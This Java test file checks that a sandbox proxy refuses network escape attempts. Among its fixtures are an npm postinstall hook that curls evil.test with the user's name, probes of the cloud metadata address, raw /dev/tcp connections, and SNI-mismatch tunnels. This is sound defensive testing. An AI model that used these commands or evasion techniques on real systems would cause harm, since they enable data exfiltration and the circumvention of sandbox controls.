package dev.journeyman.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.Collections;
import java.util.List;
import java.util.Queue;
import java.util.Set;
import java.util.concurrent.ConcurrentLinkedQueue;
import javax.net.ssl.SNIHostName;
import javax.net.ssl.SNIServerName;
import javax.net.ssl.SSLContext;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

class ProxyAttacksTest extends SandboxTestBed {

  private final Queue<NetworkRequest> requests = new ConcurrentLinkedQueue<>();
  private final Queue<String> served = new ConcurrentLinkedQueue<>();
  private final HttpServer server = serverOnLoopback();
  private final int port = server.getAddress().getPort();

  private HttpServer serverOnLoopback() {
    try {
      var made = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
      made.createContext(
          "/",
          exchange -> {
            var body = exchange.getRequestBody().readAllBytes();
            served.add(
                exchange.getRequestURI()
                    + " "
                    + exchange.getRequestHeaders().getFirst("Host")
                    + " "
                    + new String(body, StandardCharsets.UTF_8));
            exchange.sendResponseHeaders(200, 6);
            exchange.getResponseBody().write("hello\n".getBytes(StandardCharsets.UTF_8));
            exchange.close();
          });
      made.start();
      return made;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  @AfterEach
  void stopServer() {
    server.stop(0);
  }

  @Override
  SandboxSettings settings(SandboxSettings standard) {
    return standard.with(
        ProxySettings.standard().withPorts(Set.of(port)).withInternalHosts(Set.of("localhost")));
  }

  private String with(List<String> hosts, String script) {
    return run(Command.script(workTree, script).with(new Network.Allowed(hosts, requests::add)))
        .written()
        .text();
  }

  private String curl(String options) {
    return "curl -sS --max-time 10 --noproxy '' " + options + " 2>&1";
  }

  @Test
  void anAllowedHostIsReached() {
    var url = "http://localhost:" + port + "/path?query";
    assertThat(with(List.of("localhost"), curl("-d body " + url))).isEqualTo("hello\n");
    assertThat(served).containsExactly("/path?query localhost:" + port + " body");
    assertThat(requests).containsExactly(new NetworkRequest("localhost:" + port, ""));
  }

  @Test
  void net10_aTunnelWithoutTlsLeadsNowhere() {
    var url = "http://localhost:" + port + "/";
    assertThat(with(List.of("localhost"), curl("--proxytunnel " + url))).doesNotContain("hello");
    assertThat(served).isEmpty();
    assertThat(requests).hasSize(2).last().matches(request -> !request.allowed());
  }

  @Test
  void aTaskReachesItToo() {
    try (var task = sandbox.open(directory.resolve("task"))) {
      var command =
          Command.script(workTree, curl("http://localhost:" + port + "/"))
              .with(new Network.Allowed(List.of("localhost")));
      assertThat(task.run(command, OutputListener.SILENT).written().text()).isEqualTo("hello\n");
      assertThat(task.run(command, OutputListener.SILENT).written().text()).isEqualTo("hello\n");
    }
  }

  @Test
  void net05_otherHostsAreRefusedAndReported() {
    var written =
        with(
            List.of("allowed.test"),
            curl("-i http://localhost:" + port + "/")
                + ";"
                + curl("-i http://169.254.169.254/")
                + ";"
                + curl("https://evil.test/"));
    assertThat(written).contains("403 Forbidden").contains("X-Proxy-Error").doesNotContain("hello");
    assertThat(served).isEmpty();
    assertThat(requests).hasSize(3).noneMatch(NetworkRequest::allowed);
  }

  @Test
  void net05_nothingIsReachedPastTheProxy() {
    var script = "exec 3<>/dev/tcp/127.0.0.1/%d; exec 3<>/dev/tcp/1.1.1.1/80".formatted(port);
    assertThat(with(List.of("localhost"), script)).contains("refused");
    assertThat(with(List.of("localhost"), "exec 3<>/dev/tcp/1.1.1.1/80")).contains("unreachable");
  }

  @Test
  void net08_anEmptyListLetsNothingThrough() {
    assertThat(with(List.of(), curl("http://localhost:" + port + "/")))
        .contains("not on the list of allowed hosts");
  }

  @Test
  void net09_oneRequestAConnection() {
    var host = "localhost:" + port;
    var script =
        "exec 3<>/dev/tcp/127.0.0.1/${http_proxy##*:}; for p in a b; do "
            + "printf 'GET http://%s/'$p' HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' HOST; done >&3; cat <&3";
    assertThat(with(List.of("localhost"), script.replace("HOST", host))).contains("hello");
    assertThat(served).containsExactly("/a localhost:" + port + " ");
  }

  @Test
  void net12_theSocketCannotBeReplaced() {
    assertThat(with(List.of("localhost"), "rm /run/proxy.sock; touch /run/x; ls /run"))
        .contains("Read-only file system")
        .endsWith("proxy.sock\n");
  }

  @Test
  void theForwarderIsNoChildOfTheCommandAndHarmsNoExitCode() {
    var outcome =
        run(
            Command.script(workTree, "wait; exit 7")
                .with(new Network.Allowed(List.of("localhost"))));
    assertThat(outcome)
        .isInstanceOfSatisfying(
            Outcome.Exited.class, exited -> assertThat(exited.code()).isEqualTo(7));
  }

  @Test
  void net05_aNameWithAUserInItIsNoName() {
    var url = "http://localhost@169.254.169.254:" + port + "/";
    assertThat(with(List.of("localhost"), curl("-i " + url)))
        .contains("400")
        .contains("X-Proxy-Error");
    assertThat(served).isEmpty();
  }

  @Test
  void net12_withoutTheProxysVariablesNothingIsReached() {
    var script = "unset http_proxy HTTP_PROXY; " + curl("http://localhost:" + port + "/");
    assertThat(with(List.of("localhost"), script)).contains("curl: (7)");
    assertThat(served).isEmpty();
  }

  @Test
  void net13_whatAnInstallScriptSendsGoesThroughTheProxyAndIsTold() throws IOException {
    Files.writeString(
        workTree.resolve("package.json"),
        """
        {"name": "x", "version": "1.0.0", "scripts": {"postinstall":
         "curl -sS http://evil.test/$(id -un); curl -sS http://localhost:PORT/home"}}
        """
            .replace("PORT", Integer.toString(port)));
    ownership.give(workTree);
    var written = with(List.of("localhost"), "npm install --offline --foreground-scripts 2>&1");
    assertThat(written).contains("evil.test is not on the list of allowed hosts");
    assertThat(requests)
        .contains(new NetworkRequest("evil.test", "evil.test is not on the list of allowed hosts"))
        .hasSize(1);
    assertThat(served).isEmpty();
  }

  @Test
  void net14_withoutAProxyNothingRuns() {
    var deep = directory.resolve("a-name-so-long-that-no-socket-fits-below-it".repeat(4));
    try (var broken = Bubblewrap.open(settings(SandboxSettings.in(deep)))) {
      var command = Command.script(workTree, "touch ran");
      assertThat(
              broken.run(
                  command.with(new Network.Allowed(List.of("localhost"))), OutputListener.SILENT))
          .isInstanceOf(Outcome.Unavailable.class);
      assertThat(workTree.resolve("ran")).doesNotExist();
      assertThat(broken.run(command, OutputListener.SILENT).succeeded()).isTrue();
    }
  }

  @Test
  void aRequestThatCannotBeToldIsNotLetThrough() {
    var command =
        Command.script(workTree, curl("http://localhost:" + port + "/"))
            .with(
                new Network.Allowed(
                    List.of("localhost"),
                    _ -> {
                      throw new IllegalStateException("no record");
                    }));
    assertThat(run(command).written().text()).doesNotContain("hello");
    assertThat(served).isEmpty();
  }

  /// What a TLS client says first.
  private static byte[] greeting(String server) throws Exception {
    return greeting(List.of(new SNIHostName(server)));
  }

  private static byte[] greeting(List<SNIServerName> names) throws Exception {
    var engine = SSLContext.getDefault().createSSLEngine();
    engine.setUseClientMode(true);
    var parameters = engine.getSSLParameters();
    parameters.setServerNames(names);
    engine.setSSLParameters(parameters);
    var bytes = ByteBuffer.allocate(32 * 1024);
    engine.wrap(ByteBuffer.allocate(0), bytes);
    return Arrays.copyOf(bytes.array(), bytes.position());
  }

  /// What comes back through a tunnel to localhost for this.
  private String greet(byte[] greeting) {
    var script =
        "exec 3<>/dev/tcp/127.0.0.1/${http_proxy##*:}; "
            + "printf 'CONNECT localhost:%d HTTP/1.1\\r\\n\\r\\n' >&3; read -r answer <&3; "
            + "echo %s | base64 -d >&3; timeout 5 cat <&3";
    var text = Base64.getEncoder().encodeToString(greeting);
    return with(List.of("localhost"), script.formatted(port, text));
  }

  /// The same message in records of a few bytes each.
  private static byte[] split(byte[] greeting) {
    var records = new ByteArrayOutputStream();
    for (int at = 5; at < greeting.length; at += 100) {
      int length = Math.min(100, greeting.length - at);
      records.writeBytes(new byte[] {22, 3, 1, 0, (byte) length});
      records.write(greeting, at, length);
    }
    return records.toByteArray();
  }

  @Test
  void net10_aTunnelLeadsToNoOtherServerThanTheOneAskedFor() throws Exception {
    greet(greeting("evil.test"));
    var tunnel = new NetworkRequest("localhost:" + port, "");
    var misused = "A tunnel to localhost:%d was used to ask for it".formatted(port);
    assertThat(requests).containsExactly(tunnel, new NetworkRequest("evil.test", misused));
    for (var greeting : List.of(greeting("localhost"), split(greeting("localhost")))) {
      requests.clear();
      greet(greeting);
      assertThat(requests).containsExactly(tunnel);
    }
    assertThat(served).isEmpty();
  }

  @Test
  void net10_noOddGreetingOpensATunnel() throws Exception {
    var alertFirst = new ByteArrayOutputStream();
    alertFirst.writeBytes(new byte[] {21, 3, 1, 0, 2, 1, 0});
    alertFirst.writeBytes(greeting("localhost"));
    var otherKind = greeting("localhost");
    var name = "localhost".getBytes(StandardCharsets.US_ASCII);
    int at = Collections.indexOfSubList(boxed(otherKind), boxed(name));
    otherKind[at - 3] = 1;
    var anotherFirst = greeting(List.of(new OtherName("localhost"), new SNIHostName("evil.test")));
    for (var greeting :
        List.of(
            alertFirst.toByteArray(),
            otherKind,
            anotherFirst,
            greeting(List.of()),
            "GET / HTTP/1.0\r\n\r\n".getBytes(StandardCharsets.UTF_8))) {
      requests.clear();
      assertThat(greet(greeting)).doesNotContain("hello");
      assertThat(requests).hasSize(2).last().matches(request -> !request.allowed());
    }
    assertThat(served).isEmpty();
  }

  /// A name of a kind that no server knows.
  private static final class OtherName extends SNIServerName {
    OtherName(String name) {
      super(1, name.getBytes(StandardCharsets.US_ASCII));
    }
  }

  private static List<Byte> boxed(byte[] bytes) {
    var boxed = new ArrayList<Byte>();
    for (byte one : bytes) {
      boxed.add(one);
    }
    return boxed;
  }
}
